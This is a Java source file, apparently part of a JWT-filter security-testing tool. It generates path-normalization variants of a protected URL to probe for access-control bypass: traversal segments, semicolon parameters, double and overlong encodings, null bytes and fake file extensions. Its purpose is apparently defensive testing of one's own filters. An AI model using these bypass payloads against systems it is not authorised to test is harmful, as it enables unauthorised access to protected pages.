package io.github.jwtfilter.internal.probe;

import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Other spellings of a path that some servers and frameworks serve as the same page. */
final class PathVariants {
    private static final int MAX_PREFIXES = 3;

    /** A folder that need not exist, and steps back from it. */
    private static final String[] FOLDERS = {
        "/x/..",
        "/x/..;",
        "/x/%2e%2e",
        "/x/%2e%2e;",
        "/x/%252e%252e",
        "/x/%c0%ae%c0%ae",
        "/x%2f..",
        "/x%5c..",
        "/x\\..",
        "/.",
        "/.;",
        "/;",
        "/%2e",
        "/%2e;",
        "/"
    };

    private static final String[] ENDS = {
        ";x=1", ";jsessionid=0", "/", "//", "/.", "%2f", "%5c", "\\", ".", "%20", "%09", "%0a", "%00", "%23", "%3f"
    };

    /** The usual extensions of public files. */
    private static final String[] EXTENSIONS = {".css", ".html", ";.css", "/x.css", "%00.css", "?.css"};

    private static final String[] STEPS_BACK = {"/..", "/..;", "/%2e%2e", ";/.."};

    private static final Pattern LETTER = Pattern.compile("(?<![%A-Za-z0-9]|%[0-9A-Fa-f])[A-Za-z]");

    private final String context;
    private final String path;
    private final Map<String, ProbeRequest> requests = new LinkedHashMap<>();

    private PathVariants(String context, String path) {
        this.context = context;
        this.path = path;
    }

    /** Returns the requests, each target once. */
    static Collection<ProbeRequest> of(ProtectedPage page, ProbeRun run) {
        PathVariants variants = new PathVariants(run.target().context(), page.path());
        variants.addFolders();
        variants.addEncodings();
        variants.addEnds();
        variants.addPrefixes(run.plan().publicPrefixes());
        variants.add(run.target().origin() + page.target());
        variants.requests.remove(page.target());
        return variants.requests.values();
    }

    private void add(String target) {
        requests.put(target, ProbeRequest.get(target));
    }

    private void addFolders() {
        for (String folder : FOLDERS) {
            add(context + folder + path);
        }
        if (!context.isEmpty()) {
            add("/" + context + path);
            add(context + ";x=1" + path);
        }
    }

    private void addEncodings() {
        add(context + "%2f" + path.substring(1));
        add(context + "\\" + path.substring(1));
        int slash = path.indexOf('/', 1);
        if (slash > 0 && slash < path.length() - 1) {
            add(context + path.substring(0, slash) + ";x=1" + path.substring(slash));
            add(context + path.substring(0, slash) + "%2f" + path.substring(slash + 1));
            add(context + path.substring(0, slash) + "/" + path.substring(slash));
        }
        Matcher letter = LETTER.matcher(path);
        if (letter.find()) {
            String code = Integer.toHexString(path.charAt(letter.start()));
            String rest = path.substring(letter.end());
            add(context + path.substring(0, letter.start()) + "%" + code + rest);
            add(context + path.substring(0, letter.start()) + "%25" + code + rest);
            add(context + path.toUpperCase(Locale.ROOT));
        }
    }

    /** Adds texts at the end, those with extensions not after a slash, where they name another file. */
    private void addEnds() {
        for (String end : ENDS) {
            add(context + path + end);
        }
        if (!path.endsWith("/")) {
            for (String extension : EXTENSIONS) {
                add(context + path + extension);
            }
        }
    }

    /** Adds paths that start as a public one. */
    private void addPrefixes(Collection<String> prefixes) {
        prefixes.stream().filter(each -> !each.equals("/")).limit(MAX_PREFIXES).forEach(prefix -> {
            String start = prefix.endsWith("/") ? prefix.substring(0, prefix.length() - 1) : prefix;
            long depth = start.chars().filter(c -> c == '/').count();
            for (String back : STEPS_BACK) {
                StringBuilder target = new StringBuilder(context).append(start);
                for (int i = 0; i < depth; i++) {
                    target.append(back);
                }
                add(target + path);
            }
        });
    }
}
